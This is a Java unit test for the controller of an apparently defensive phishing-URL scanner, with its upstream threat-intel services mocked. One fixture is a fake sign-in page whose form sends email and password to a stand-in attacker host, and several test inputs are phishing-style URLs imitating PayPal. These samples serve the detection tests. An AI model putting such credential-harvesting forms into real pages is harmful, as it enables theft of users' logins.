package com.urlguardian.scanner.api;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.urlguardian.scanner.alert.IncidentPublisher;
import com.urlguardian.scanner.collector.CertificateInfo;
import com.urlguardian.scanner.collector.FormInspector;
import com.urlguardian.scanner.collector.PageContentScanner;
import com.urlguardian.scanner.collector.PageFetcher;
import com.urlguardian.scanner.collector.RedirectAnalyzer;
import com.urlguardian.scanner.collector.TlsAuditor;
import com.urlguardian.scanner.collector.UrlStructureAnalyzer;
import com.urlguardian.scanner.config.IncidentConfig;
import com.urlguardian.scanner.config.ScannerConfig;
import com.urlguardian.scanner.config.ThreatIntelConfig;
import com.urlguardian.scanner.feature.HeuristicDictionary;
import com.urlguardian.scanner.feature.UrlFeatureExtractor;
import com.urlguardian.scanner.incident.FeedbackService;
import com.urlguardian.scanner.incident.InMemoryFeedbackStore;
import com.urlguardian.scanner.incident.InMemoryIncidentStore;
import com.urlguardian.scanner.incident.IncidentIdGenerator;
import com.urlguardian.scanner.incident.IncidentReportGenerator;
import com.urlguardian.scanner.incident.IncidentService;
import com.urlguardian.scanner.metrics.ScannerMetrics;
import com.urlguardian.scanner.policy.CategoryClassifier;
import com.urlguardian.scanner.policy.PolicyEvaluator;
import com.urlguardian.scanner.policy.PolicyTable;
import com.urlguardian.scanner.risk.RiskAggregator;
import com.urlguardian.scanner.scan.ComprehensiveScanService;
import com.urlguardian.scanner.scan.UrlAnalysisService;
import com.urlguardian.scanner.threatintel.AbuseIPDBClient;
import com.urlguardian.scanner.threatintel.BreachCheck;
import com.urlguardian.scanner.threatintel.DnsResolver;
import com.urlguardian.scanner.threatintel.IpRiskProfiler;
import com.urlguardian.scanner.threatintel.OpenPhishFeedClient;
import com.urlguardian.scanner.threatintel.ReputationLookup;
import com.urlguardian.scanner.threatintel.SafeBrowsingClient;
import com.urlguardian.scanner.threatintel.VirusTotalClient;
import com.urlguardian.scanner.threatintel.WhoisCheck;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient;
import org.springframework.web.reactive.function.client.ClientRequest;
import org.springframework.web.reactive.function.client.ClientResponse;
import org.springframework.web.reactive.function.client.WebClient;
import reactor.core.publisher.Mono;

import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;

class SecurityControllerTest {

    private static final Instant NOW = Instant.parse("2024-06-15T12:00:00Z");

    private static final String LOGIN_PAGE = """
            <html><head><title>Sign in</title></head><body>
            <form action="https://collector.evil.example/submit" method="post">
              <input name="email"><input type="password" name="password">
            </form></body></html>
            """;

    private WebTestClient client;

    @BeforeEach
    void setUp() {
        ObjectMapper objectMapper = JsonMapper.builder().findAndAddModules().build();
        ScannerConfig config = new ScannerConfig();
        ThreatIntelConfig threatIntel = new ThreatIntelConfig();
        HeuristicDictionary dictionary = HeuristicDictionary.loadDefault();
        PolicyTable policyTable = PolicyTable.loadDefault();
        Clock clock = Clock.fixed(NOW, ZoneOffset.UTC);
        ScannerMetrics metrics = new ScannerMetrics(new SimpleMeterRegistry());
        metrics.init();

        UrlFeatureExtractor extractor = new UrlFeatureExtractor(dictionary);
        UrlStructureAnalyzer structureAnalyzer = new UrlStructureAnalyzer(dictionary);
        PageFetcher pageFetcher = new PageFetcher(upstream(), config);
        RedirectAnalyzer redirects = new RedirectAnalyzer(upstream(), config, dictionary);
        PageContentScanner pageContent = new PageContentScanner(pageFetcher, dictionary, config);
        FormInspector forms = new FormInspector(pageFetcher, config);
        CertificateInfo certificate = new CertificateInfo(true, "CN=Test CA", NOW.minus(Duration.ofDays(100)),
                NOW.plus(Duration.ofDays(200)), List.of("example.com"), null);
        TlsAuditor tls = new TlsAuditor((host, port, timeout) -> certificate, pageFetcher, config, clock);
        ReputationLookup reputation = new ReputationLookup(new OpenPhishFeedClient(threatIntel, upstream()),
                new SafeBrowsingClient(threatIntel, objectMapper, upstream()),
                new VirusTotalClient(threatIntel, objectMapper, upstream()), dictionary, config);
        WhoisCheck whois = new WhoisCheck(threatIntel, config, dictionary, objectMapper, upstream(), clock);
        IpRiskProfiler ipRisk = new IpRiskProfiler(threatIntel,
                new DnsResolver(threatIntel, objectMapper, upstream()),
                new AbuseIPDBClient(threatIntel, objectMapper, upstream()), dictionary, config, objectMapper,
                upstream());
        BreachCheck breach = new BreachCheck(threatIntel, config, objectMapper, upstream(), clock);
        CategoryClassifier classifier = new CategoryClassifier(policyTable);

        InMemoryIncidentStore incidentStore = new InMemoryIncidentStore();
        IncidentService incidents = new IncidentService(
                new IncidentReportGenerator(new IncidentIdGenerator(clock), clock), incidentStore,
                new IncidentPublisher(List.of(), metrics), new IncidentConfig(), metrics);
        FeedbackService feedback = new FeedbackService(new InMemoryFeedbackStore(), incidentStore,
                new IncidentConfig(), metrics, clock);
        ComprehensiveScanService scanService = new ComprehensiveScanService(extractor, structureAnalyzer,
                redirects, pageFetcher, pageContent, forms, tls, reputation, whois, ipRisk, breach,
                new RiskAggregator(config), classifier, incidents, metrics, config);

        SecurityController controller = new SecurityController(extractor, redirects, pageContent, forms, tls,
                reputation, whois, ipRisk, breach, new PolicyEvaluator(policyTable, classifier), scanService,
                new UrlAnalysisService(extractor, structureAnalyzer, config), incidents, feedback);
        client = WebTestClient.bindToController(controller)
                .controllerAdvice(new ErrorHandler())
                .build();
    }

    @Test
    void shouldAnalyzeUrlWithoutNetwork() {
        post("/security/analyze-url", Map.of("url", "http://192.168.1.1@paypal-login.tk/verify"))
                .expectStatus().isOk()
                .expectBody()
                .jsonPath("$.verdict").isEqualTo("likely_phishing")
                .jsonPath("$.riskScore").isEqualTo(90)
                .jsonPath("$.features.hasAt").isEqualTo(true);
    }

    @Test
    void shouldRejectInvalidUrl() {
        post("/security/analyze-url", Map.of("url", "   "))
                .expectStatus().isBadRequest()
                .expectBody()
                .jsonPath("$.code").isEqualTo("INVALID_URL");
    }

    @Test
    void shouldInspectFormsOnFetchedPage() {
        post("/security/inspect-forms", Map.of("url", "https://paypal-login.tk/verify"))
                .expectStatus().isOk()
                .expectBody()
                .jsonPath("$.status").isEqualTo("available")
                .jsonPath("$.data.riskScore").isEqualTo(85);
    }

    @Test
    void shouldReportUnavailableSourceAsSoftFailure() {
        post("/security/check-whois", Map.of("url", "https://paypal-login.tk/verify"))
                .expectStatus().isOk()
                .expectBody()
                .jsonPath("$.status").isEqualTo("unavailable")
                .jsonPath("$.reason").isEqualTo("upstream returned HTTP 503");
    }

    @Test
    void shouldRejectInvalidEmail() {
        post("/security/breach-check", Map.of("email", "not-an-email"))
                .expectStatus().isBadRequest()
                .expectBody()
                .jsonPath("$.code").isEqualTo("INVALID_EMAIL");
    }

    @Test
    void shouldCalculateRiskScoreWithFullBreakdown() {
        post("/security/calculate-risk-score", Map.of("url", "http://192.168.1.1@paypal-login.tk/verify"))
                .expectStatus().isOk()
                .expectBody()
                .jsonPath("$.verdict").isEqualTo("likely_phishing")
                .jsonPath("$.breakdown.whois.status").isEqualTo("unavailable")
                .jsonPath("$.breakdown.breach.reason").isEqualTo("not requested");
    }

    @Test
    void shouldEchoPolicyProfile() {
        post("/security/check-policy", Map.of("url", "https://example.com", "policyProfileId", "strict"))
                .expectStatus().isOk()
                .expectBody()
                .jsonPath("$.policyProfileId").isEqualTo("strict")
                .jsonPath("$.decision").exists();
    }

    @Test
    void shouldReturnNotFoundForFeedbackOnUnknownIncident() {
        post("/security/submit-feedback", Map.of("incidentId", "INC-0000000000000-000000-aaaaaa",
                "judgment", "correct"))
                .expectStatus().isNotFound()
                .expectBody()
                .jsonPath("$.code").isEqualTo("UNKNOWN_INCIDENT");
    }

    @Test
    void shouldListGeneratedIncidentsAndStats() {
        post("/security/generate-incident-report", Map.of("url", "http://192.168.1.1@paypal-login.tk/verify"))
                .expectStatus().isOk()
                .expectBody()
                .jsonPath("$.id").exists();

        client.get().uri("/security/recent-incidents?limit=5")
                .exchange()
                .expectStatus().isOk()
                .expectBody()
                .jsonPath("$.length()").isEqualTo(1);

        client.get().uri("/security/feedback-stats")
                .exchange()
                .expectStatus().isOk()
                .expectBody()
                .jsonPath("$.total").isEqualTo(0)
                .jsonPath("$.accuracyDisplay").isEqualTo("no data");
    }

    private WebTestClient.ResponseSpec post(String path, Map<String, String> body) {
        return client.post().uri(path)
                .contentType(MediaType.APPLICATION_JSON)
                .bodyValue(body)
                .exchange();
    }

    private WebClient.Builder upstream() {
        return WebClient.builder().exchangeFunction(this::route);
    }

    private Mono<ClientResponse> route(ClientRequest request) {
        return switch (request.url().getHost()) {
            case "openphish.com" -> ok("https://paypal-login.tk/verify\n");
            case "rdap.org" -> Mono.just(ClientResponse.create(HttpStatus.SERVICE_UNAVAILABLE).build());
            case "dns.google" -> ok("{\"Answer\": [{\"type\": 1, \"data\": \"203.0.113.7\"}]}");
            case "ip-api.com" -> ok("{\"status\": \"success\", \"country\": \"Canada\", \"isp\": \"Example ISP\"}");
            default -> ok(LOGIN_PAGE);
        };
    }

    private static Mono<ClientResponse> ok(String body) {
        return Mono.just(ClientResponse.create(HttpStatus.OK).body(body).build());
    }
}
